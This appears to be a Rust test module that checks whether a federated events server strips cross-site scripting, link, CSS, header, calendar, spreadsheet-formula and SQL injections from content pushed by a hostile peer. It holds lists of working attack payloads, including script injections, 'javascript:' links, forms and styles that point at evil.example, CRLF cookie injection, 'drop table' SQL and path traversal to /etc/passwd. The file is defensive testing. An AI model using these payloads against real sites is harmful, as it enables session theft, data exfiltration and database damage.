//! XSS: words that want to be markup, commands or formulas.

use std::collections::BTreeSet;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use tests::attacker::Peer;
use tests::markup::{Element, elements};
use tests::wire::{Answer, Request};

use crate::arena::{Arena, Family};
use crate::book::attacks;

static FAMILY: Family = Family::new("Schrift");

attacks! { FAMILY;
    xss_01_markup_in_every_field: "Scripts, pictures, frames and broken quotes in every field of notes, articles, events and actors: no page has an element or an attribute that it should not have; no script runs by policy.",
    xss_02_links_that_are_programs: "`javascript:`, `data:`, `vbscript:` and `blob:` addresses, plain and disguised, wherever an address may stand: no page links to them.",
    xss_03_styles_and_forms_in_texts: "Styles, classes, ids, forms, bases, drawings and formulas in texts: gone.",
    xss_04_emoji_that_break_out: "Emoji whose names and pictures end attributes and elements: they stay words.",
    xss_05_line_ends_and_formulas: "Line ends in names and titles: no header, no line of a calendar begins with them. Cells of a table never begin with a formula.",
    xss_06_questions_to_the_database: "SQL, wildcards, search operators and templates in every parameter: no error, nothing changed, nothing computed.",
}

const CORPUS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" onfocus=alert(1) autofocus x=\"",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "{{ 7 * 7 }}<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"java&#x09;script:alert(1)\">x</a><a href='jAvAsCrIpT:alert(1)'>y</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

/// What cleaned texts may bring into a page.
const HARMLESS: &str = "b blockquote br code del em h2 h3 h4 h5 h6 hr i li ol p pre s span strong u ul";

/// An element with the names of its attributes, and what matters of their values.
fn form(element: &Element) -> String {
    let told = |(name, value): (&String, &String)| match name.as_str() {
        "type" | "rel" if element.name == "script" || element.name == "link" => format!("{name}={value}"),
        name => name.to_owned(),
    };
    let attributes: Vec<String> = element.attributes.iter().map(told).collect();
    format!("{} {}", element.name, attributes.join(" ")).trim().to_owned()
}

/// The pages that show what others publish.
async fn pages(arena: &Arena) -> Result<Vec<(String, Answer)>> {
    let look = arena.look().await?;
    let id = |row: &Value| {
        let hex = row["id"].as_str().unwrap_or_default().to_lowercase();
        let part = |from: usize, to: usize| hex.get(from..to).unwrap_or_default().to_owned();
        format!("{}-{}-{}-{}-{}", part(0, 8), part(8, 12), part(12, 16), part(16, 20), part(20, 32))
    };
    let mut paths: Vec<String> =
        ["/", "/events", "/events?time=month", "/posts", "/neighbours"].map(str::to_owned).to_vec();
    paths.extend(look.rows("events", "").iter().map(|row| format!("/events/{}", id(row))));
    paths.extend(look.rows("posts", "").iter().map(|row| format!("/posts/{}", id(row))));
    let mut pages = Vec::new();
    for path in paths {
        let page = arena.page(&path).await?;
        // A post of another server is shown there, not here.
        ensure!(matches!(page.status, 200 | 303), "{path}: {page:?}");
        pages.push((path, page));
    }
    Ok(pages)
}

/// Every form of an element that pages have, and every address they link to.
async fn forms(arena: &Arena) -> Result<(BTreeSet<String>, BTreeSet<String>)> {
    let (mut forms, mut links) = (BTreeSet::new(), BTreeSet::new());
    for (path, page) in pages(arena).await? {
        let policy = page.header("content-security-policy");
        ensure!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{path}: {policy}");
        for element in elements(&page.body) {
            let addresses = ["href", "src", "action", "formaction", "srcset", "data", "poster"];
            links.extend(addresses.iter().filter_map(|name| element.attributes.get(*name)).cloned());
            forms.insert(form(&element));
        }
    }
    Ok((forms, links))
}

/// Has the friend publish an object, in a `Create`.
async fn publish(arena: &Arena, friend: &Peer, object: Value) -> Result<()> {
    arena.deliver(friend, "mallory", &friend.activity("mallory", "Create", object)).await
}

/// Everything a page can show, said by the friend with `words` in every place.
async fn say_everywhere(arena: &Arena, friend: &Peer, words: &str) -> Result<()> {
    let mut note = friend.note("mallory", words);
    note["summary"] = json!(words);
    note["contentMap"] = json!({ words: words });
    let mut article = friend.note("mallory", words);
    article["type"] = json!("Article");
    let mut event = friend.event("mallory", words);
    for object in [&mut article, &mut event] {
        for member in
            ["name", "summary", "content", "category", "inLanguage", "url", "externalParticipationUrl", "status"]
        {
            object[member] = json!(words);
        }
        object["tag"] = json!([{ "type": "Hashtag", "name": words, "href": words }]);
        object["attachment"] = json!([
            { "type": "Link", "name": "Website", "href": words, "mediaType": words },
            { "type": "Image", "name": words, "url": words },
            { "type": "PropertyValue", "name": words, "propertyID": words, "value": words },
        ]);
        let address = json!({ "streetAddress": words, "addressLocality": words, "postalCode": words });
        object["location"] = json!({ "type": "Place", "name": words, "address": address, "url": words });
    }
    for object in [note, article, event] {
        publish(arena, friend, object).await?;
    }
    let mut actor = friend.document("mallory");
    for member in ["name", "summary", "url"] {
        actor[member] = json!(words);
    }
    arena.deliver(friend, "mallory", &friend.activity("mallory", "Update", actor)).await
}

/// Has all of `corpus` said everywhere and looks for what came through.
async fn stays_words(arena: &Arena, corpus: &[&str]) -> Result<()> {
    let friend = arena.befriend("freund").await?;
    say_everywhere(arena, &friend, "Nordstadt").await?;
    publish(arena, &friend, friend.note("mallory", "<p><a href=\"https://a.example/\">a</a></p>")).await?;
    let (mut allowed, _) = forms(arena).await?;
    allowed.extend(HARMLESS.split(' ').map(str::to_owned));
    for words in corpus {
        say_everywhere(arena, &friend, words).await.with_context(|| (*words).to_owned())?;
    }
    let (now, links) = forms(arena).await?;
    let new: Vec<&String> = now.difference(&allowed).collect();
    // A link whose address was taken from it is left with its `rel`.
    let new: Vec<_> =
        new.into_iter().filter(|form| !matches!(form.as_str(), "a rel" | "a href rel" | "p lang" | "p dir")).collect();
    ensure!(new.is_empty(), "new in the pages: {new:#?}");
    let own = arena.url("").replace("http:", "webcal:");
    let fine = |link: &&String| {
        let scheme = link.split_once(':').map(|(scheme, _)| scheme);
        link.starts_with(['/', '#', '?'])
            || link.starts_with(&own)
            || matches!(scheme, Some("https" | "http" | "mailto" | "tel" | "geo"))
    };
    let odd: Vec<_> = links.iter().filter(|link| !fine(link)).collect();
    ensure!(odd.is_empty(), "links to {odd:#?}");
    for (path, kind) in [
        ("/feed.atom", "application/atom+xml"),
        ("/calendar.ics", "text/calendar"),
        ("/events.csv", "text/csv"),
        ("/events.geojson", "application/geo+json"),
    ] {
        let answer = arena.gets(&[200], path, &Request::get(path, &arena.host)).await?;
        ensure!(answer.header("content-type").starts_with(kind), "{path} is {}", answer.header("content-type"));
        ensure!(answer.header("x-content-type-options") == "nosniff", "{path} may be sniffed");
        ensure!(!path.ends_with("atom") || !answer.body.contains("<script"), "a script in the feed");
    }
    Ok(())
}

async fn xss_01_markup_in_every_field(arena: &Arena) -> Result<()> {
    stays_words(arena, &CORPUS).await
}

async fn xss_02_links_that_are_programs(arena: &Arena) -> Result<()> {
    let addresses = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "blob:https://a.example/1",
        "view-source:x",
        "//evil.example",
        "https:javascript:alert(1)",
        "file:///etc/passwd",
    ];
    let texts: Vec<String> = addresses.iter().map(|address| format!("<a href=\"{address}\">x</a>")).collect();
    let corpus: Vec<&str> = addresses.into_iter().chain(texts.iter().map(String::as_str)).collect();
    stays_words(arena, &corpus).await
}

async fn xss_03_styles_and_forms_in_texts(arena: &Arena) -> Result<()> {
    let corpus = [
        "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</p>",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<form action=https://evil.example/><input name=password><button formaction=x>x</button></form>",
        "<p id=main class=button name=body>x</p><font size=500>x</font><marquee>x</marquee>",
        "<svg><use href=\"https://evil.example/#x\"/></svg><math href=x>x</math><object data=x></object><embed src=x>",
        "<img src=https://evil.example/x><video src=x></video><audio src=x></audio><picture><source srcset=x></picture>",
        "<table><td background=x>x</table><details ontoggle=x open>x</details><dialog open>x</dialog>",
    ];
    stays_words(arena, &corpus).await
}

async fn xss_04_emoji_that_break_out(arena: &Arena) -> Result<()> {
    let friend = arena.befriend("freund").await?;
    publish(arena, &friend, friend.note("mallory", "<p>:x: ist ein Wort</p>")).await?;
    let before = forms(arena).await?;
    for name in [":x:", ":x:\" onload=\"alert(1)", ":x:<img src=x>"] {
        let icon = json!({ "type": "Image", "url": format!("https://emoji.example/\"><script>{name}"), "mediaType": "image/png" });
        let text = format!("<p>:x: {name} <a href=\"https://a.example/:x:\">:x:</a></p>");
        for mut object in [friend.note("mallory", &text), friend.event("mallory", name)] {
            object["tag"] = json!([{ "type": "Emoji", "name": name, "id": "https://emoji.example/e", "icon": icon }]);
            publish(arena, &friend, object).await?;
        }
    }
    let now = forms(arena).await?;
    let new: Vec<_> = now.0.difference(&before.0).filter(|form| !matches!(form.as_str(), "a href rel" | "p")).collect();
    ensure!(!now.0.iter().any(|form| form.starts_with("img") || form.contains("onload")), "{new:#?}");
    ensure!(!now.1.iter().any(|link| link.contains("emoji.example")), "a picture of the attacker's");
    Ok(())
}

async fn xss_05_line_ends_and_formulas(arena: &Arena) -> Result<()> {
    let friend = arena.befriend("freund").await?;
    let corpus = [
        "Fest\r\nSet-Cookie: a=b",
        "Fest\nATTENDEE:mailto:a@b.example",
        "Fest\r\nEND:VEVENT\r\nBEGIN:VALARM",
        "=HYPERLINK(\"https://evil.example\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "Fest\u{2028}ATTENDEE:x",
        "Fest\\nATTENDEE:x",
        "Fest;ATTENDEE=x:y",
        "Fest\",=1",
    ];
    for words in corpus {
        let mut event = friend.event("mallory", words);
        for member in ["summary", "content"] {
            event[member] = json!(words);
        }
        event["location"] = json!({ "type": "Place", "name": words, "address": words });
        event["tag"] = json!([{ "type": "Hashtag", "name": words }]);
        publish(arena, &friend, event).await?;
    }
    let calendar = arena.gets(&[200], "the calendar", &Request::get("/calendar.ics", &arena.host)).await?;
    let unfolded = calendar.body.replace("\r\n ", "").replace("\r\n\t", "");
    for line in unfolded.split(['\n', '\r', '\u{2028}']) {
        let line = line.trim_start_matches(' ');
        let bad = ["ATTENDEE", "SET-COOKIE", "BEGIN:VALARM"];
        ensure!(!bad.iter().any(|bad| line.to_uppercase().starts_with(bad)), "a line of its own: {line}");
    }
    let lines = |wanted: &str| unfolded.lines().filter(|line| *line == wanted).count();
    ensure!(lines("BEGIN:VEVENT") > 0 && lines("BEGIN:VEVENT") == lines("END:VEVENT"), "an event ends twice");
    let table = arena.gets(&[200], "the table", &Request::get("/events.csv", &arena.host)).await?;
    for cell in table.body.split(['\n', '\r']).flat_map(|line| line.split("\",\"")) {
        let cell = cell.trim_start_matches([',', '"']);
        ensure!(!cell.starts_with(['=', '+', '-', '@', '\t']), "a formula: {cell}");
    }
    for (path, page) in pages(arena).await? {
        ensure!(page.header("set-cookie").is_empty(), "{path} sets a cookie");
    }
    let redirects =
        ["/language?x=%0d%0aSet-Cookie:%20a=b", "/posts/%0d%0aSet-Cookie:%20a=b", "/@x%0d%0aSet-Cookie:a=b"];
    for path in redirects {
        let answer = arena.page(path).await?;
        ensure!(answer.header("set-cookie").is_empty() && answer.status < 500, "{path}: {answer:?}");
    }
    let actor = arena.document("/.well-known/webfinger?resource=acct:x%0d%0aX-Evil:%20y").await?;
    ensure!(actor.header("x-evil").is_empty());
    Ok(())
}

async fn xss_06_questions_to_the_database(arena: &Arena) -> Result<()> {
    let note = arena.note("<p>Eine Notiz</p>").await?;
    let before = arena.look().await?;
    let payloads = [
        "'",
        "\"",
        "1' or '1'='1",
        "'; drop table posts; --",
        "1 union select 1,2,3",
        "%25",
        "_",
        "NEAR(",
        "*",
        "\\",
        "{{7*7}}",
        "${7*7}",
        "<%=7*7%>",
        "-1",
        "99999999999999999999",
        "1e309",
        "%00",
        "%ff",
        "..%2f..%2fetc%2fpasswd",
        "0x7f",
        "true",
        "null",
        "[]",
        "a&a=b",
    ];
    let places = [
        "/events?time=",
        "/events?from=",
        "/events?theme=",
        "/events?free=",
        "/events?own=",
        "/events?tag=",
        "/calendar.ics?tag=",
        "/events.csv?theme=",
        "/events.geojson?from=",
        "/feed.atom?tag=",
        "/posts?before=",
        "/posts?before=1&id=",
        "/events/",
        "/posts/",
        "/activities/",
        "/@",
        "/nodeinfo/",
        "/.well-known/webfinger?resource=",
        "/sign-in/link/",
        "/actor/",
        "/@schrift/outbox?page=true&before=",
        "/@schrift/outbox?page=",
    ];
    for place in places {
        for payload in payloads {
            let path = format!("{place}{}", payload.replace(' ', "%20").replace('"', "%22").replace('<', "%3C"));
            for accept in ["text/html", "application/activity+json"] {
                let answer = arena.send(&Request::get(&path, &arena.host).with("accept", accept)).await?;
                ensure!(answer.status < 500, "{path}: {answer:?}");
                let computed = payload.contains("7*7") && answer.body.contains("49") && !answer.body.contains("7*7");
                ensure!(!computed, "{path} was computed");
                ensure!(!answer.body.to_lowercase().contains("sqlite"), "{path} tells of the database");
            }
        }
    }
    before.same(arena).await?;
    ensure!(arena.document(note.trim_start_matches(&arena.url(""))).await?.status == 200);
    Ok(())
}
